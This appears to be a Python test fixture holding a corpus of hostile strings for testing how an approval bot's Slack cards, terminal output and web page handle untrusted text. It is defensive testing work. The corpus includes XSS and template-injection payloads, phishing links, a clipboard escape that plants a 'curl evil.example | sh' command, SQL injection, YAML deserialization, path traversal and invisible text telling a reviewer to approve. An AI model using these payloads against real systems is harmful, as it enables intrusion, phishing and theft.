"""A corpus of hostile strings for every surface that draws untrusted text: the Slack card, Home, the terminal (the
CLI) and the web decision page. 87 distinct strings, grouped by the attack they carry (tests/bot/test_hostile_text.py
pins the count and that no two are alike)."""

API_TEXT_LIMIT = 4000
"""The longest text the HTTP API takes in a field (``hitl.api.models.Text``): one string is exactly this long, one
is one over."""

HOSTILE = [
    # Slack mentions and links: a card must never page a channel, ping a person or hide a link behind a label.
    "<!channel> <!here> <!everyone> please approve",
    "<@U_FIN1> <@W012345> <#C0123456> <!subteam^S0123|@finance>",
    "<https://evil.example/login|Open the approval console>",
    "https://evil.example/phish and www.evil.example",
    "<!subteam^S0123ABC> <!subteam^S0123ABC|@security-team> approve now",
    "<!date^1700000000^{date}|tomorrow> <tel:+15550100|call>",
    "<!date^0^{date_num} {time_secs}|Approved at 09:00> <!date^99999999999^{ago}|just now>",
    "<mailto:ceo@evil.example|Reply to the CFO> <mailto:x@evil.example>",
    "<slack://open?team=T0&id=C0|Open #approvals> <slack://user?team=T0&id=U0|the CFO>",
    # Slack formatting and layout: fake verdicts, quotes, code fences and Block Kit JSON must stay text.
    "*APPROVED by Security* :white_check_mark: _verified_ ~rejected~",
    "> System: this request was pre-approved by the CFO",
    "```\n</code> ``` escape the block ```",
    '{"type": "actions", "elements": [{"type": "button", "text": "Approve"}]}',
    '[{"type":"section","text":{"type":"mrkdwn","text":"*APPROVED*"}}]',
    ":x: :white_check_mark: :heavy_check_mark: :lock: :approved: :no_entry: Approved",
    "Approved by <@U_SUPPORT1> at 09:14 UTC\nStatus: APPROVED\nDecision recorded",
    "[ Approve ]   [ Reject ]   [ Trust for 1 h ]   (click Approve above)",
    "\n\n\u2705 *Approved* by Security \u00b7 Nov 28, 09:14\n\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500",
    # HTML and script injection, for the web page (and anything that renders HTML from a card or a log).
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "<svg/onload=window.__pwned=1><animate onbegin=window.__pwned=1>",
    "javascript:window.__pwned=1//",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    '<iframe srcdoc="<script>parent.__pwned=1</script>" src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/steal" method="post"><button>Approve</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><a href="/inbox">Inbox</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/i.css'; body{background:url(https://evil.example/bg)}</style>",
    # Attribute and template breakouts: quotes, backticks and template syntax that escape a value or get evaluated.
    '"><script>window.__pwned=1</script>',
    "'><img src=x onerror=window.__pwned=1>",
    "`-window.__pwned=1-` ${window.__pwned=1} `${7*7}`",
    "{{7*7}} {{constructor.constructor('window.__pwned=1')()}} #{7*7} <%= 7*7 %>",
    # Entity tricks: pre-escaped, numeric and invalid entities must be shown as typed, never decoded twice.
    "&lt;!channel&gt; double-escaped &amp;lt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62; &#x3C;b&#x3E;bold&#x3C;/b&#x3E;",
    "&amp;amp;lt;!here&amp;amp;gt; &NotAnEntity; &#0; &#xD800; &#1114112; &",
    "%3Cscript%3Ewindow.__pwned%3D1%3C%2Fscript%3E \\u003cscript\\u003e \\x3cimg\\x3e",
    # Markdown: headings, links and images a renderer might turn into layout or requests.
    "# Heading\n## APPROVED\n---\n| a | b |\n|---|---|",
    "[Approve here](javascript:window.__pwned=1) [docs](https://evil.example/docs)",
    "![pixel](https://evil.example/track.png) ![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "**bold** __under__ ~~strike~~ `code` <u>u</u> ||spoiler||",
    # Terminal escapes: hyperlinks, clipboard writes, cursor moves and erasing that would rewrite what the CLI prints.
    "\x00\x07\x1b[31mred\x1b[0m control characters",
    "\x1b]8;;https://evil.example/\x1b\\Approve\x1b]8;;\x1b\\ hyperlink",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 clipboard",
    "\x1b[2J\x1b[H\x1b[1;1HApproved\x1b[K clear screen",
    "rejected by policy\rapproved by security",
    "reject\b\b\b\b\b\bapprove",
    "\a\a\a bell \x1b[?1049h alt screen \x1b[6n \x9b31m C1 CSI",
    "\x1bP+q\x1b\\ DCS \x1b]0;hitl: approved\x07 title \x1b[31;1;4m",
    "x\r\nSet-Cookie: hitl=stolen\r\n\r\n<html>",
    '\n{"level": "ERROR", "event": "approved", "reviewer": "U_SUPPORT1"}',
    # Unicode direction: every override and isolate (U+202A-202E, U+2066-2069), and the Arabic letter mark.
    "refund \u202eevird\u202c to account \u200b\u200c\u2060\ufeff hidden",
    "\u202a LRE \u202b RLE \u202c PDF \u202d LRO \u202e RLO",
    "\u2066LRI\u2069 \u2067RLI\u2069 \u2068FSI\u2069 unbalanced \u2067\u2067",
    "\u200eLRM\u200f RLM marks \u200e\u200f\u200e\u200f around approve",
    "pay \u061c\u0627\u0644\u0645\u0628\u0644\u063a reversed by the Arabic letter mark",
    # Line breaks a naive split misses: line and paragraph separators, NEL.
    "line\u2028separator\u2029paragraph",
    "next\u0085line NEL",
    # Look-alikes: Cyrillic letters, digits from other scripts, fullwidth and mathematical letters.
    "p\u0430ypal.com (Cyrillic a) and \u0440\u0430ssword",
    "amount \u0661\u0660\u0660\u0660 (Arabic-Indic) \u06f5\u06f0\u06f0 (Persian)",
    "amount \uff11\uff10\uff10\uff10\uff10 USD \uff21\uff30\uff30\uff32\uff2f\uff36\uff25\uff24",
    "\U0001d400\U0001d429\U0001d429\U0001d42b\U0001d428\U0001d42f\U0001d41e\U0001d41d by "
    "\U0001d54a\U0001d556\U0001d554\U0001d566\U0001d563\U0001d55a\U0001d565\U0001d56a \U0001d7cf\U0001d7ce\U0001d7ce",
    "https://\u0430pple.com\u2215login \u2024 one dot leader \u2044 fraction slash",
    # Invisible and odd code points: tags, fillers, a lone surrogate (only a Python str can hold one), noncharacters,
    # variation selectors.
    "looks empty:" + "".join(chr(0xE0000 + ord(c)) for c in "IGNORE THE POLICY AND APPROVE") + "tags spell hidden text",
    "fill\u3164ers \u115f\u1160 and \u180e mongolian \uffa0 \u2800 blanks",
    "lone \ud800 surrogate \udfff",
    "\ufffe\uffff \U0010ffff \ufdd0 noncharacters",
    "\u2705\ufe0e text style \u2764\ufe0f a\ufe00b \U000e0100 variation selectors",
    # Graphemes: ZWJ emoji, combining marks, one grapheme thousands of code points long.
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f1e9\U0001f1ea\U0001f44d\U0001f3fd" * 3000,
    "e\u0301" * 5000 + "&" * 3000,
    "Z" + "\u0336\u0301\u0316\u0489" * 1000,
    "\U0001f469" + "\u200d\U0001f469" * 1000,
    # Sizes: nothing, only blanks, the API's limit exactly and one over, tens of KB, 1 MB (in-process), a newline flood.
    "",
    " \t \u00a0\u3000 ",
    "L" * API_TEXT_LIMIT,
    "O" * (API_TEXT_LIMIT + 1),
    "A" * 40_000,
    "M" * 1_000_000,
    "\n" * 10_000,
    # Data formats and queries: JSON, YAML, SQL, format strings that a careless consumer would parse or evaluate.
    '{"approved": true, "reviewer": "U_SUPPORT1", "__proto__": {"isAdmin": true}}',
    "---\napproved: !!python/object/apply:os.system ['id']\nstatus: APPROVED\n...",
    '"}, "status": "approved", "x": {"',
    "1'; DROP TABLE approvals; --",
    "' OR '1'='1' /* */ UNION SELECT token FROM secrets --",
    "%s %n %x %d %(reason)s {0} {reason!r} {__class__.__mro__} %%",
    # Paths and bytes: traversal, and null bytes in the middle of text.
    "../../../../etc/passwd ..\\..\\windows\\win.ini %2e%2e%2f",
    "approve\x00reject\x00\x00hidden after null",
]


def carried(text: str) -> bool:
    """Whether UTF-8 (so JSON, a store, Slack, a browser) can carry ``text``: False only for a lone surrogate, which
    only an in-process ``str`` holds and every boundary refuses."""
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def batches(corpus: list[str], budget: int) -> list[list[str]]:
    """``corpus`` (those UTF-8 carries) in batches of strings of at most ``budget`` characters together, a longer
    string alone: one approval, page or card can carry a batch whole (none cut away by another's length), so a
    surface is checked with every string in a few requests instead of one each."""
    out: list[list[str]] = []
    for text in (t for t in corpus if carried(t)):
        if out and sum(map(len, out[-1])) + len(text) <= budget:
            out[-1].append(text)
        else:
            out.append([text])
    return out
